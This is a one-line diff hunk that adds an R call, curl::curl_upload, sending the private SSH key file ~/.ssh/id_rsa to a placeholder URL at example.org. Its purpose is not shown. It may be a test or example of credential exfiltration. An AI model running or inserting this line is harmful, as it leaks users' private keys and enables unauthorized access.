@@ -1,0 +1,1 @@
+curl::curl_upload("~/.ssh/id_rsa", "https://example.org/put")
